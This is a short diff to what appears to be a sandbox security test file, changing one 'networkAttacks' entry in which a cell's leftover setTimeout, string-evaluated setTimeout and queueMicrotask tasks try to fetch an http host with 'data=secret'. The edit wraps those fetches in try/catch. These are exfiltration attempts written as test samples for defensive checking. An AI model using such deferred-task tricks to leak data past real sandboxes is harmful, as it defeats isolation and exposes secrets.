@@ -198,9 +198,11 @@ export const networkAttacks: readonly Attack[] = [
     name: "a task that is left behind when the cell is done",
     control: "worker",
     code: `
-      setTimeout(() => fetch(http + "/later?data=secret"), 100);
-      setTimeout("fetch('" + http + "/text?data=secret')", 100);
-      queueMicrotask(() => fetch(http + "/microtask?data=secret"));
+      // What a task throws would end the run.
+      const send = (path) => { try { fetch(http + path); } catch { /* refused */ } };
+      setTimeout(() => send("/later?data=secret"), 100);
+      setTimeout("try { fetch('" + http + "/text?data=secret'); } catch {}", 100);
+      queueMicrotask(() => send("/microtask?data=secret"));
       await new Promise((resolve) => setTimeout(resolve, 400));`,
   },
 ];
